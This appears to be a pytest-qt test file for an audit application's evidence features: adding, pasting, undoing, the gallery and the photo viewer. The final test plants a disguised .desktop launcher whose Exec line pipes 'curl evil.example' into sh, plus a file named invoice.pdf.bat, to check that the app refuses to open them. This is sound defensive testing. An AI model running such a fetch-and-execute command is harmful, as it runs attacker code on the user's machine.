"""Evidence in the workspace as an auditor uses it: add, paste, refuse, undo, the gallery and the viewer."""

from __future__ import annotations

import hashlib
import time
from pathlib import Path
from typing import Any

import pytest
from PIL import ExifTags, Image
from PySide6.QtCore import QMimeData, QPoint, Qt, QUrl
from PySide6.QtGui import QColor, QDesktopServices, QDragEnterEvent, QDropEvent, QGuiApplication, QImage
from PySide6.QtWidgets import QApplication, QFileDialog, QMessageBox
from pytestqt.qtbot import QtBot

from auditor_app.services import audit, evidence_views, queries
from auditor_app.ui.evidence.feature import EvidenceFeature
from auditor_app.ui.evidence.gallery_model import GalleryModel, IdRole
from auditor_app.ui.exporting import ExportProgress
from auditor_app.ui.main_window import MainWindow
from tests.ui.conftest import AUTHOR
from tests.ui.uihelpers import cid, click_clause, run_in, session_of


def photo(path: Path, colour: tuple[int, int, int], size: tuple[int, int] = (600, 400), orientation: int | None = None,
          taken: str | None = None) -> Path:
    exif = Image.Exif()
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if taken:
        exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = taken
    Image.new("RGB", size, colour).save(path, "JPEG", exif=exif.tobytes())
    return path


def feature(window: MainWindow) -> EvidenceFeature:
    return next(f for f in window.features if isinstance(f, EvidenceFeature))


@pytest.fixture
def messages(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    shown: list[str] = []
    for kind in ("information", "warning", "critical"):
        monkeypatch.setattr(QMessageBox, kind, lambda _p, title, text, *_a, **_k:
                            shown.append(f"{title}: {text}") or QMessageBox.StandardButton.Ok)
    return shown


def choose_files(monkeypatch: pytest.MonkeyPatch, paths: list[Path]) -> None:
    monkeypatch.setattr(QFileDialog, "getOpenFileNames", lambda *a, **k: ([str(p) for p in paths], ""))


def wait_added(window: MainWindow, qtbot: QtBot, start: Any) -> None:
    with qtbot.waitSignal(feature(window).adder.finished, timeout=30_000):
        start()
    qtbot.waitUntil(lambda: not window.audit.busy)


def titles(model: GalleryModel) -> list[str]:
    return [str(model.index(row).data()) for row in range(model.rowCount())]


def test_two_photos_from_the_file_dialog_show_on_the_tab_and_in_the_gallery_and_are_stored(
        window: MainWindow, qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, audit_path: Path) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("8.5.1"))
    before = ev.tab.model.rowCount()
    upright = photo(tmp_path / "Prüfplatz 检验.jpg", (200, 40, 40), taken="2026:11:11 10:00:00")
    turned = photo(tmp_path / "turned.jpg", (40, 40, 200), orientation=6, taken="2026:11:11 11:00:00")
    choose_files(monkeypatch, [upright, turned])
    # Two files are probed on the worker, behind a progress dialog the user can cancel.
    wait_added(window, qtbot, lambda: (ev.add_action.trigger(),
                                       qtbot.waitUntil(lambda: isinstance(ev.adder.progress, ExportProgress))))
    assert titles(ev.tab.model)[-2:] == ["Prüfplatz 检验.jpg", "turned.jpg"]
    assert ev.tab.model.rowCount() == before + 2
    assert window.page.tabs.tabText(window.page.tabs.indexOf(ev.tab)) == f"Evidence ({before + 2})"
    window.show_page(ev.page)  # the gallery, read again as it is shown
    assert {"Prüfplatz 检验.jpg", "turned.jpg"} <= set(titles(ev.page.model))
    assert window.undo_stack.undoText() == "Add 2 evidence files to 8.5.1"
    window.close()
    with audit.open_audit(audit_path, author=AUTHOR) as session:
        stored = {r.filename: r for r in evidence_views.evidence_for_clause(session, cid("8.5.1"))}
    assert (stored["turned.jpg"].width, stored["turned.jpg"].height) == (400, 600)  # EXIF orientation applied
    assert stored["Prüfplatz 检验.jpg"].sha256 == hashlib.sha256(upright.read_bytes()).hexdigest()


def test_a_text_file_named_jpg_is_refused_with_a_message_naming_it(
        window: MainWindow, qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, messages: list[str]) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("8.5.1"))
    fake = tmp_path / "Messprotokoll.jpg"
    fake.write_text("Messprotokoll 12.3 mm", encoding="utf-8")
    count = ev.tab.model.rowCount()
    choose_files(monkeypatch, [fake])
    wait_added(window, qtbot, ev.add_action.trigger)
    assert len(messages) == 1 and "Messprotokoll.jpg: not a supported evidence file" in messages[0]
    assert ev.tab.model.rowCount() == count and not window.undo_stack.canUndo()


def test_undo_removes_the_added_files_and_redo_brings_back_the_same_ones(
        window: MainWindow, qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("9.2"))
    files = [photo(tmp_path / f"p{i}.jpg", (30 * i, 90, 20)) for i in range(3)]
    choose_files(monkeypatch, files)
    wait_added(window, qtbot, ev.add_action.trigger)
    added = set(ev.tab.model.ids())
    assert len(added) == 3 and window.undo_stack.undoText() == "Add 3 evidence files to 9.2"
    window.undo_stack.undo()
    window.show_page(ev.page)
    assert ev.tab.model.rowCount() == 0 and not added & set(ev.page.model.ids())
    window.undo_stack.redo()  # with the gallery on screen, it follows at once
    assert added <= set(ev.page.model.ids())
    window.show_clauses()
    assert set(ev.tab.model.ids()) == added


def test_a_screenshot_is_pasted_as_a_png_on_the_clause(window: MainWindow, qtbot: QtBot) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("7.2"))
    image = QImage(320, 200, QImage.Format.Format_RGB32)
    image.fill(QColor("#2e7d32"))
    QGuiApplication.clipboard().setImage(image)
    ev.paste_action.trigger()
    session = session_of(window)
    assert session is not None
    shown = window.audit.read(evidence_views.evidence_for_clause, cid("7.2"))
    assert len(shown) == 1 and shown[0].mime == "image/png" and (shown[0].width, shown[0].height) == (320, 200)
    assert (shown[0].filename or "").startswith("Screenshot ") and titles(ev.tab.model) == [shown[0].filename]
    assert window.undo_stack.undoText() == "Add evidence file to 7.2"


def test_files_go_to_a_note_or_a_finding_chosen_on_the_tab(window: MainWindow, qtbot: QtBot, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("7.1.5.2"))
    combo = ev.tab.target_combo
    row = next(r for r in range(combo.count()) if combo.itemText(r).startswith("Finding "))
    combo.setCurrentIndex(row)
    target, where = ev.tab.target() or (None, "")
    choose_files(monkeypatch, [photo(tmp_path / "label.jpg", (250, 250, 0))])
    wait_added(window, qtbot, ev.tab.add_button.click)
    session = session_of(window)
    assert session is not None and target is not None and target.finding_id
    new = next(r for r in window.audit.read(evidence_views.all_evidence) if r.filename == "label.jpg")
    finding = next(f for f in window.audit.read(queries.findings) if f.id == target.finding_id)
    assert new.id in finding.evidence_ids and window.undo_stack.undoText() == f"Add evidence file to {where}"


def test_a_folder_dropped_on_the_tab_is_added_and_many_files_go_to_the_bulk_import(
        window: MainWindow, qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("8.7"))
    folder = tmp_path / "SD card"
    (folder / "DCIM").mkdir(parents=True)
    photo(folder / "DCIM" / "a.jpg", (10, 10, 10))
    photo(folder / "b.jpg", (90, 10, 10))
    (folder / ".hidden.jpg").write_text("not a photo")
    count = ev.tab.model.rowCount()
    monkeypatch.setattr(window, "import_photos", lambda _paths: False)  # without the bulk import: added directly
    wait_added(window, qtbot, lambda: ev.tab.files_dropped.emit([folder]))
    assert ev.tab.model.rowCount() == count + 2
    imported: list[list[Path]] = []
    monkeypatch.setattr(window, "import_photos", lambda paths: imported.append(list(paths)) or True)
    many = [photo(tmp_path / f"m{i}.jpg", (i, i, i)) for i in range(6)]
    ev.tab.files_dropped.emit(many)
    ev.tab.files_dropped.emit([folder])
    assert imported == [many, [folder]] and ev.tab.model.rowCount() == count + 2


def test_dropping_files_on_the_grid_adds_them(window: MainWindow, qtbot: QtBot, tmp_path: Path) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("10.2"))
    window.page.tabs.setCurrentWidget(ev.tab)
    data = QMimeData()
    data.setUrls([QUrl.fromLocalFile(str(photo(tmp_path / "drop.jpg", (1, 200, 1))))])
    enter = QDragEnterEvent(QPoint(20, 20), Qt.DropAction.CopyAction, data, Qt.MouseButton.NoButton,
                            Qt.KeyboardModifier.NoModifier)
    QApplication.sendEvent(ev.tab.grid.viewport(), enter)
    assert enter.isAccepted()
    drop = QDropEvent(QPoint(20, 20).toPointF(), Qt.DropAction.CopyAction, data, Qt.MouseButton.NoButton,
                      Qt.KeyboardModifier.NoModifier)
    with qtbot.waitSignal(ev.adder.finished):
        QApplication.sendEvent(ev.tab.grid.viewport(), drop)
    assert "drop.jpg" in titles(ev.tab.model)


def test_delete_key_removes_a_file_and_undo_restores_it_with_its_finding_reference(
        window: MainWindow, qtbot: QtBot) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("7.1.5.2"))
    session = session_of(window)
    assert session is not None
    cited = {e for f in window.audit.read(queries.findings) for e in f.evidence_ids}
    row = next(r for r, i in enumerate(ev.tab.model.ids()) if i in cited)
    evidence_id = ev.tab.model.ids()[row]
    ev.tab.grid.setCurrentIndex(ev.tab.model.index(row))
    qtbot.keyClick(ev.tab.grid, Qt.Key.Key_Delete)
    assert evidence_id not in ev.tab.model.ids()
    assert all(evidence_id not in f.evidence_ids for f in window.audit.read(queries.findings))
    window.undo_stack.undo()
    assert evidence_id in ev.tab.model.ids()
    assert any(evidence_id in f.evidence_ids for f in window.audit.read(queries.findings))


def test_gallery_filters_by_text_and_scope(window: MainWindow, qtbot: QtBot, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    ev.show_gallery()
    total = ev.page.proxy.rowCount()
    assert total == len(window.audit.read(evidence_views.all_evidence)) and total > 0  # type: ignore[arg-type]
    choose_files(monkeypatch, [photo(tmp_path / "Unsorted 未分类.jpg", (5, 5, 5))])
    wait_added(window, qtbot, ev.page.add_button.click)  # from the gallery: not yet on any clause
    ev.page.scope_combo.setCurrentIndex(ev.page.scope_combo.findData("unassigned"))
    assert titles_of_proxy(ev) == ["Unsorted 未分类.jpg"]
    ev.page.scope_combo.setCurrentIndex(0)
    ev.page.filter_edit.setText("未分类")  # typed by an input method: QTest cannot type Chinese
    assert titles_of_proxy(ev) == ["Unsorted 未分类.jpg"] and ev.page.count_label.text() == f"1 of {total + 1} files"


def titles_of_proxy(ev: EvidenceFeature) -> list[str]:
    return [str(ev.page.proxy.index(r, 0).data()) for r in range(ev.page.proxy.rowCount())]


def test_gallery_model_passes_the_model_tester(window: MainWindow, qtmodeltester: Any) -> None:
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    assert ev.page.model.rowCount() > 0
    qtmodeltester.check(ev.page.model)
    qtmodeltester.check(ev.page.proxy)


def test_thumbnails_arrive_from_the_pool_without_blocking(window: MainWindow, qtbot: QtBot) -> None:
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    model = ev.page.model
    started = time.perf_counter()
    first = [model.index(row).data(Qt.ItemDataRole.DecorationRole) for row in range(model.rowCount())]
    asked = time.perf_counter() - started
    assert asked < 0.2  # placeholders at once; the work is queued, not done here
    assert all(not pixmap.isNull() for pixmap in first)
    qtbot.waitUntil(lambda: all(ev.loader.pixmap(r) is not None for r in model.records()), timeout=20_000)
    pixmap = model.index(0).data(Qt.ItemDataRole.DecorationRole)
    assert pixmap.cacheKey() != first[0].cacheKey() and pixmap.size() == ev.loader.canvas * ev.loader.scale


def test_viewer_rotates_edits_the_caption_pages_and_says_who_uses_the_photo(
        window: MainWindow, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    session = session_of(window)
    assert session is not None
    cited = {e for f in window.audit.read(queries.findings) for e in f.evidence_ids}
    ids = ev.page.shown_ids()  # opened from the gallery: previous / next go through all of it
    first = next(i for i in ids if i in cited)
    data_before = window.audit.read(evidence_views.evidence_bytes, first)
    ev.page.open_requested.emit(first, ids)
    viewer = ev.viewer
    assert viewer is not None and viewer.record is not None and viewer.record.id == first
    qtbot.waitUntil(viewer.view.has_picture, timeout=20_000)
    used = [viewer.info.used_list.item(r).text() for r in range(viewer.info.used_list.count())]
    clause = viewer.record.clause_id and window.audit.read(queries.clause, viewer.record.clause_id)
    assert used[0].startswith(f"{clause and clause.number} ")
    assert any(u.startswith("Finding NC-") for u in used)
    size = viewer.view.item.pixmap().size()
    viewer.rotate_right_action.trigger()
    stored = window.audit.read(evidence_views.record, first)
    assert stored is not None and stored.rotation == 90
    assert window.audit.read(evidence_views.evidence_bytes, first) == data_before  # the original is never rewritten
    assert evidence_views.integrity_hash(stored) == hashlib.sha256(data_before).hexdigest()
    qtbot.waitUntil(lambda: viewer.view.item.pixmap().size() == size.transposed(), timeout=20_000)
    viewer.info.caption_edit.setText("Kalibrierschild — 校准标签")
    viewer.info.caption_edit.editingFinished.emit()
    assert window.audit.read(evidence_views.record, first).caption == "Kalibrierschild — 校准标签"  # type: ignore[union-attr]
    assert window.undo_stack.undoText() == "Edit caption"
    position = viewer.index
    assert len(ids) == 2 and viewer.position_label.text() == f"{position + 1} of 2"
    viewer.activateWindow()
    qtbot.waitUntil(viewer.isActiveWindow)
    qtbot.keyClick(viewer.view, Qt.Key.Key_PageDown if position == 0 else Qt.Key.Key_PageUp)
    assert viewer.record.id == ids[1 - position] and viewer.position_label.text() == f"{2 - position} of 2"
    # A fitted photo has nothing to scroll, so the arrow keys page too.
    qtbot.keyClick(viewer.view, Qt.Key.Key_Left if position == 0 else Qt.Key.Key_Right)
    assert viewer.record.id == first and viewer.info.caption_edit.text() == "Kalibrierschild — 校准标签"
    window.undo_stack.undo()
    window.undo_stack.undo()
    assert viewer.record.rotation == 0 and viewer.record.caption != "Kalibrierschild — 校准标签"
    jumped: list[str] = []
    monkeypatch.setattr(window, "select_clause", lambda c: jumped.append(c) or True)
    viewer.info.used_list.itemActivated.emit(viewer.info.used_list.item(0))
    assert jumped == [viewer.record.clause_id]


def test_viewer_zooms_and_fits(window: MainWindow, qtbot: QtBot) -> None:
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    ids = ev.page.model.ids()
    ev.open_evidence(ids[0], ids)
    viewer = ev.viewer
    assert viewer is not None
    qtbot.waitUntil(viewer.view.has_picture, timeout=20_000)
    fitted = viewer.view.scale_factor()
    viewer.zoom_in_action.trigger()
    assert viewer.view.scale_factor() == pytest.approx(fitted * 1.25) and not viewer.view.fitting
    viewer.actual_action.trigger()
    assert viewer.view.scale_factor() == 1.0
    viewer.fit_action.trigger()
    assert viewer.view.scale_factor() == pytest.approx(fitted)


def test_annotate_opens_the_annotation_editor(window: MainWindow, monkeypatch: pytest.MonkeyPatch) -> None:
    from auditor_app.ui import annotate

    opened: list[str] = []
    monkeypatch.setattr(annotate, "open_editor", lambda _audit, _parent, evidence_id: opened.append(evidence_id))
    ev = feature(window)
    window.show_page(ev.page)  # the gallery is read when its page is first shown
    ids = ev.page.model.ids()
    ev.open_evidence(ids[0], ids)
    assert ev.viewer is not None and ev.viewer.annotate_action.isVisible()
    ev.viewer.annotate_action.trigger()
    assert opened == [ids[0]]


def test_a_pdf_opens_in_the_system_viewer_from_a_copy_named_like_the_original(
        window: MainWindow, qtbot: QtBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ev = feature(window)
    click_clause(qtbot, window, cid("8.4.1"))
    pdf = tmp_path / "Lieferantenbewertung 2026.pdf"
    pdf.write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    choose_files(monkeypatch, [pdf])
    wait_added(window, qtbot, ev.add_action.trigger)
    opened: list[QUrl] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url) or True)
    row = titles(ev.tab.model).index(pdf.name)
    ev.tab.grid.activated.emit(ev.tab.model.index(row))
    assert ev.viewer is None and len(opened) == 1
    copy = Path(opened[0].toLocalFile())
    assert copy.name == pdf.name and copy.read_bytes() == pdf.read_bytes()


def test_a_photos_tooltip_says_who_added_it(window: MainWindow) -> None:
    ev = feature(window)
    window.show_page(ev.page)
    index = ev.page.model.index(0, 0)
    record = ev.records[str(index.data(IdRole))]
    tip = str(index.data(Qt.ItemDataRole.ToolTipRole))
    assert record.meta.created_by and tip.splitlines()[-1].startswith(f"Added by {record.meta.created_by}, 20")


def test_the_system_viewer_gets_a_copy_named_by_its_content_and_never_a_script(
        window: MainWindow, monkeypatch: pytest.MonkeyPatch, messages: list[str]) -> None:
    """Files an import or merge of an older version let in: named invoice.pdf.bat, or not evidence at all."""
    from auditor_app.services import evidence as evidence_service
    from auditor_app.services.session import new_id

    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    desktop = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"

    def plant(tx, data: bytes, name: str, mime: str) -> str:  # type: ignore[no-untyped-def]
        digest = evidence_service.store_blob(tx, data, mime)
        return tx.create("evidence", new_id(), {"sha256": digest, "filename": name, "mime": mime, "size": len(data),
                                                "clause_id": cid("8.4.1"), "rotation": 0})

    invoice = run_in(window, plant, pdf, "invoice.pdf.bat", "application/pdf").ids("evidence")
    window.apply_change(session_of(window).last_change)
    launcher = run_in(window, plant, desktop, "photo.desktop", "application/pdf").ids("evidence")
    window.apply_change(session_of(window).last_change)
    opened: list[QUrl] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url) or True)
    ev = feature(window)
    ev.open_externally(next(iter(invoice)))
    assert len(opened) == 1
    copy = Path(opened[0].toLocalFile())
    assert copy.name == "invoice_pdf.pdf" and copy.read_bytes() == pdf
    ev.open_externally(next(iter(launcher)))
    assert len(opened) == 1 and not list(copy.parent.parent.glob("*/photo*"))
    assert messages == ["Cannot open the file: photo.desktop: not opened, its content is not a supported evidence "
                        "file (JPEG, PNG, WebP, HEIC, PDF or office document)"]
